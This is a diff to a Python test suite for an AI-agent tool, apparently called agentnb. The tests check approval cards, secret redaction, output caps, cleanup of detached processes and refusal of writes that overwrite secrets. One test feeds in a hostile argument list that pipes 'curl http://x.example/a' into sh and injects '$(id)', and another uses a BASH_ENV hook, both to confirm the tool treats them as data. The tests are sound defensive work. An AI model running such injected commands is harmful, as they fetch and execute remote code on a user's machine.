@@ -10,6 +10,7 @@ import contextlib
 import functools
 import json
 import os
+import shlex
 import signal
 import subprocess
 import sys
@@ -28,7 +29,7 @@ from agentnb import (
     evals,
 )
 from agentnb._app.connections import disconnect
-from agentnb._client import acp_transport
+from agentnb._client import acp_terminals, acp_transport
 from agentnb._core.shown_call import shown_call
 from agentnb._display.run_text import status_line
 from agentnb.approvals import ApprovalDecision
@@ -445,26 +446,71 @@ def test_a_denied_terminal_command_never_runs(with_terminal: str, workdir: Path)
     assert run.tool_calls[0].status == "denied" and not (workdir / "ran").exists()
 
 
+def sleeping(seconds: str) -> list[int]:
+    """The processes running ``sleep SECONDS``."""
+    wanted, found = [b"sleep", seconds.encode()], []
+    for entry in Path("/proc").iterdir():
+        with contextlib.suppress(OSError):
+            if entry.name.isdigit() and (entry / "cmdline").read_bytes().split(b"\0")[:2] == wanted:
+                found.append(int(entry.name))
+    return found
+
+
 def test_a_terminal_still_running_ends_with_the_connection(with_terminal: str) -> None:
     seconds = str(6000 + os.getpid() % 1000)  # a command line no other test runs
-
-    def running() -> list[int]:
-        wanted, found = [b"sleep", seconds.encode()], []
-        for entry in Path("/proc").iterdir():
-            with contextlib.suppress(OSError):
-                if (
-                    entry.name.isdigit()
-                    and (entry / "cmdline").read_bytes().split(b"\0")[:2] == wanted
-                ):
-                    found.append(int(entry.name))
-        return found
-
     handle = ask(with_terminal, f"terminal sleep {seconds}", approve=True)
-    until(lambda: running(), "the terminal's command runs")
-    [pid] = running()
+    until(lambda: sleeping(seconds), "the terminal's command runs")
+    [pid] = sleeping(seconds)
     disconnect(with_terminal)
     until(lambda: process_ended(pid), "the terminal's command is ended with the connection")
     assert ended(handle).status in ("failed", "interrupted")
+
+
+def terminal(agent: str, spec: dict[str, object], **options: object) -> RunHandle:
+    return ask(agent, f"terminaljson {json.dumps(spec)}", **options)
+
+
+def test_a_terminals_card_shows_everything_it_runs_its_env_too(with_terminal: str) -> None:
+    spec = {"command": "bash", "args": ["-c", "echo build ok"], "env": {"BASH_ENV": ".hook.sh"}}
+    handle = terminal(with_terminal, spec)
+    until(lambda: handle.run.status == "paused", "the command waits for a decision")
+    [call] = handle.run.awaiting_approval
+    assert call.arguments == {"command": "bash -c 'echo build ok'", "env": {"BASH_ENV": ".hook.sh"}}
+    handle.deny(call.call_id)
+    assert ended(handle).text.startswith("terminal refused:")
+
+
+def test_a_terminals_output_reaches_the_agent_redacted_as_a_file_read_does(
+    with_terminal: str,
+) -> None:
+    run = ended(terminal(with_terminal, {"command": "cat", "args": ["leak.txt"]}, approve=True))
+    said = json.loads(run.text)
+    assert said["exit"] == 0 and said["output"].startswith("the key is ")
+    assert "sk-live" not in run.text
+
+
+def test_a_terminals_output_is_bounded_by_agentnbs_cap_whatever_the_agent_asks(
+    with_terminal: str,
+) -> None:
+    spec = {
+        "command": sys.executable,
+        "args": ["-c", "print(('x' * 99 + '\\n') * 50_000)"],  # 5 MB
+        "outputByteLimit": 1_000_000_000,
+    }
+    said = json.loads(ended(terminal(with_terminal, spec, approve=True)).text)
+    assert said["truncated"] is True
+    assert 0 < len(said["output"]) <= acp_terminals.OUTPUT_LIMIT
+    assert set(said["output"]) == {"x", "\n"} and said["output"].startswith("x" * 99 + "\n")
+
+
+def test_a_child_the_command_detached_with_setsid_ends_with_its_terminal(
+    with_terminal: str,
+) -> None:
+    seconds = str(7000 + os.getpid() % 1000)  # a command line no other test runs
+    detach = f"setsid sleep {seconds} </dev/null >/dev/null 2>&1 & echo started"
+    run = ended(terminal(with_terminal, {"command": "sh", "args": ["-c", detach]}, approve=True))
+    assert json.loads(run.text)["output"] == "started\n"  # the agent released the terminal
+    until(lambda: not sleeping(seconds), "the detached child is ended with its terminal")
 
 
 def test_terminal_must_be_true_or_false(acp_python: Path) -> None:
@@ -585,6 +631,18 @@ def test_an_agent_that_needs_a_login_says_which_and_how() -> None:
     assert "Authentication required" in message
     assert "API key (a key from the dashboard): set RAW_AGENT_KEY in env=" in message
     assert "--login` in a terminal" in message
+
+
+def test_the_login_advice_quotes_the_agents_arguments_as_data_never_as_shell() -> None:
+    command = [sys.executable, str(AGENTS / "raw_agent.py")]
+    hostile = ["login;", "curl", "http://x.example/a|sh", "$(id)"]
+    env = {"RAW_AGENT_LOGIN": "1", "RAW_AGENT_LOGIN_ARGS": json.dumps(hostile)}
+    client = AgentClient("acp", command=command, env=env)
+    with client, pytest.raises(ConfigurationError) as error:
+        client.run("raw-agent", "hi")
+    message = str(error.value)
+    assert f"`{shlex.join([*command, *hostile])}`" in message
+    assert "login; curl" not in message and " $(id)" not in message
 
 
 def test_a_past_session_the_agent_cannot_load_is_refused_with_advice() -> None:
@@ -773,6 +831,16 @@ def test_a_write_back_of_a_redacted_secret_is_refused_and_the_secret_kept(
     read = ended(ask(scripted, f"read {leak}", approve=True)).text.removeprefix("read: ")
     assert "sk-live" not in read
     run = ended(ask(scripted, f"write {leak} {read.strip()} and more", approve=True))
+    assert run.text.startswith("write refused:") and "replace a secret" in run.text
+    assert "sk-live-0123456789abcdef0123456789" in leak.read_text()
+
+
+@pytest.mark.parametrize("written", ["The KEY is *** here, reformatted", "key=***"])
+def test_a_write_putting_the_redaction_mark_where_a_secret_was_is_refused_however_formatted(
+    scripted: str, workdir: Path, written: str
+) -> None:
+    leak = workdir / "leak.txt"
+    run = ended(ask(scripted, f"write {leak} {written}", approve=True))
     assert run.text.startswith("write refused:") and "replace a secret" in run.text
     assert "sk-live-0123456789abcdef0123456789" in leak.read_text()
 
